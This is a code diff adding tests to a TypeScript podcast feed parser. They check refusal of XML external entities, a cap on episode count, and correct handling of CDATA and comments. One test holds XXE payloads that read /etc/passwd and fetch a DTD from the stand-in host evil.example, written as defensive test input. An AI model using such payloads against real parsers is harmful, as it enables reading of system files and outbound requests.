@@ -2,7 +2,7 @@ import { readFileSync } from 'node:fs';
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { decodeFeedText } from './decode-feed-text';
-import { parsePodcastFeed, type FeedParseResult } from './parse-podcast-feed';
+import { FEED_MAX_ITEMS, parsePodcastFeed, type FeedParseResult } from './parse-podcast-feed';
 import type { PodcastFeed } from './podcast-feed';
 
 const FEED_URL = 'https://feeds.example.com/show.xml';
@@ -299,6 +299,53 @@ describe('a feed that lies', () => {
     const result = parsePodcastFeed(bomb, FEED_URL);
     const titleLength = result.ok ? result.feed.title.length : 0;
     expect(titleLength).toBeLessThan(1_000_000);
+  });
+
+  it('refuses a feed that declares external entities, saying so', () => {
+    const xxe = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]><rss><channel><title>&secret;</title></channel></rss>`;
+    expect(parsePodcastFeed(xxe, FEED_URL)).toEqual({
+      ok: false,
+      error: {
+        code: 'malformed-feed',
+        message:
+          'That podcast feed declares external entities (files or addresses to include), which PodBite does not read.',
+      },
+    });
+    const parameterEntity = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote PUBLIC "x" "http://evil.example/x.dtd">]><rss><channel/></rss>`;
+    expect(parsePodcastFeed(parameterEntity, FEED_URL)).toMatchObject({
+      ok: false,
+      error: { message: expect.stringContaining('external entities') },
+    });
+  });
+
+  it('reads the newest FEED_MAX_ITEMS episodes of a longer feed, whichever order it lists them in', () => {
+    const item = (n: number) =>
+      `<item><title>Episode ${n}</title><guid>ep-${n}</guid><pubDate>${new Date(Date.UTC(2020, 0, 1) + n * 86_400_000).toUTCString()}</pubDate><enclosure url="https://cdn.example.com/${n}.mp3" type="audio/mpeg"/></item>`;
+    const numbers = Array.from({ length: FEED_MAX_ITEMS + 50 }, (_, n) => n);
+    const newestFirst = parsePodcastFeed(feedOf([...numbers].reverse().map(item).join('')), FEED_URL);
+    const oldestFirst = parsePodcastFeed(feedOf(numbers.map(item).join('')), FEED_URL);
+    for (const result of [newestFirst, oldestFirst]) {
+      const guids = result.ok ? result.feed.episodes.map((episode) => episode.guid) : [];
+      expect(guids).toHaveLength(FEED_MAX_ITEMS);
+      expect(guids).toContain(`ep-${numbers.length - 1}`);
+      expect(guids).not.toContain('ep-0');
+    }
+  });
+
+  it('reads items one by one: "<item>" inside CDATA or a comment is text, not an episode', () => {
+    const result = parsePodcastFeed(
+      feedOf(
+        `<!-- <item><guid>commented</guid></item> -->
+        <item><title><![CDATA[Talk about <item> tags</item>]]></title><guid>one</guid><enclosure url="https://cdn.example.com/1.mp3" type="audio/mpeg"/></item>
+        <item><title>Two</title><guid>two</guid><enclosure url="https://cdn.example.com/2.mp3" type="audio/mpeg"/></item>`,
+      ),
+      FEED_URL,
+    );
+    expect(result.ok && result.feed.episodes.map((episode) => [episode.guid, episode.title])).toEqual([
+      ['one', 'Talk about <item> tags</item>'],
+      ['two', 'Two'],
+    ]);
+    expect(result.ok && result.feed.title).toBe('Lies & More');
   });
 
   it('never throws on mutated real feeds, and every episode it returns is well-formed', () => {
